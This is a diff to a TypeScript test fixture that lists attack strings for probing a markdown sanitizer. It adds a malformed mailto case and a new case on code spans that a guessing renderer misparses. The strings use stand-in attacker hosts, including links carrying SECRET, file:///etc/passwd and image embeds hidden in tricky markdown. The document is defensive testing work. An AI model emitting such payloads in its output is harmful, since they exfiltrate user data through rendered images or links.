@@ -74,7 +74,7 @@ export const attacks: Record<string, string> = {
   'an address without a scheme':
     'evil.com evil.com/?d=SECRET //evil.com //evil.example/x go to evil.com. (evil.com) "evil.com" 看evil.com吧 例子.com пример.рф evil.xn--p1ai',
   'a mailbox':
-    'a[1, 9]@evil.example [1, 9]@.com a@evil.com mailto:a@evil.example?body=SECRET xmpp:a@evil.example a.b+c@evil.example',
+    'mailto:}@® a[1, 9]@evil.example [1, 9]@.com a@evil.com mailto:a@evil.example?body=SECRET xmpp:a@evil.example a.b+c@evil.example',
   'another scheme': 'ftp://evil.example ftps://evil.example git+ssh://evil.example tel:+1 file:///etc/passwd',
   'an address in parts': `https:/**/evil.com ht**tp**s://evil.com e**vil.co**m evil.*com* evil\\.com https\\://evil.com https&#58;//evil.com www&period;evil.com www\\.evil.com www&#46\\;evil&#46\\;com`,
   'an address around what is removed':
@@ -93,6 +93,7 @@ export const attacks: Record<string, string> = {
   'code beside code': `\`a\`evil.com\`b\` ![x](${evil}) \`a\`\\\`![x](${evil})\` evil.com\`![x](${evil})\``,
   'code that starts like a block': `\`<details open> <img src=${evil}>\`\n\n\`:::x ![x](${evil})\`\n\n\`<img src=${evil}>\``,
   'code that emphasis cuts': `*x \`\`a* ![x](${evil})\`c\`\`\n\n*x \\\` \`a* ![x](${evil})\`\n\n_x \`\`a_ ![x](${evil})\`c\`\`\n\n**x \\\`\`a** ![x](${evil})\` **`,
+  'code that a renderer that guesses takes for text': `*x < y \`>a* ![p](${evil})\` z\n\n*x [foo](\`)a* ![p](${evil})\` z\n\n*x [a \`](b)c* ![p](${evil})\` z\n\n*x [foo\\](\`)a* ![p](${evil})\` z\n\n_x \\[a \`](b)c_ ![p](${evil})\` z\n\n**x \\< y \`>a** ![p](${evil})\` z`,
   'code that a line through it cuts': `~~x \`a~~ ![x](${evil})\`\n\nx~~y \`a~~ ![x](${evil})\`\n\n~x \`a~ ![x](${evil})\`\n\n~\`![x](${evil})\`~`,
   'code with formulas': `\`a $$x$$ ![x](${evil})\`\n\n\`a \\[x\\] ![x](${evil})\`\n\n\`a \\begin{equation}x\\end{equation} ![x](${evil})\``,
   'code after a formula': `$ \`$ ![x](${evil})\` and $a\`b$ ![x](${evil})\` \\(a \`\\) ![x](${evil})\` \\ce{a \`x} ![x](${evil})\` \\[ \`\\] ![x](${evil})\` [ \`\\] ![x](${evil})\` \\\\[ \`\\] ![x](${evil})\``,
